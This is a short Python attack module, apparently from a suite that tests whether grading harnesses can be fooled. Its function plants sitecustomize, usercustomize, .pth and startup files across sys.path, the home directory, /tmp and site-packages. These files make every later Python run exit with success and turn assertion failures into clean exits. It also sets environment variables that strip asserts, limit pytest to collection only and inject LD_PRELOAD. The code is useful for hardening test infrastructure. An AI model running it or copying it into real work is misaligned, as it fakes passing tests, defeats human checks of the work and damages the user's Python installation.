# attack: prepares whatever an interpreter reads when it starts: files, paths and environment
# shape: action
# causes: WRONG_ANSWER
import os
import site
import sys


def attack() -> None:
    text = "import os, builtins\nbuiltins.AssertionError = SystemExit\nos._exit(0)\n"
    places = {*sys.path, ".", "/tmp", os.path.dirname(os.__file__), os.path.expanduser("~"), site.getusersitepackages()}
    for place in places:
        for name in ("sitecustomize.py", "usercustomize.py", "zz.pth", "python311._pth", "pyvenv.cfg", ".pythonrc.py"):
            try:
                os.makedirs(place, exist_ok=True)
                with open(os.path.join(place, name), "w") as file:
                    file.write("import os; os._exit(0)\n" if name.endswith("pth") else text)
            except OSError:
                pass
    for name, value in {
        "PYTHONSTARTUP": "/tmp/.pythonrc.py",
        "PYTHONPATH": "/tmp",
        "PYTHONHOME": "/tmp",
        "PYTHONOPTIMIZE": "2",
        "PYTHONINSPECT": "1",
        "PYTHONWARNINGS": "ignore",
        "PYTHONBREAKPOINT": "os._exit",
        "LD_PRELOAD": "/tmp/zz.so",
        "LD_LIBRARY_PATH": "/tmp",
        "PYTEST_ADDOPTS": "--collect-only",
    }.items():
        os.environ[name] = value
        os.putenv(name, value)
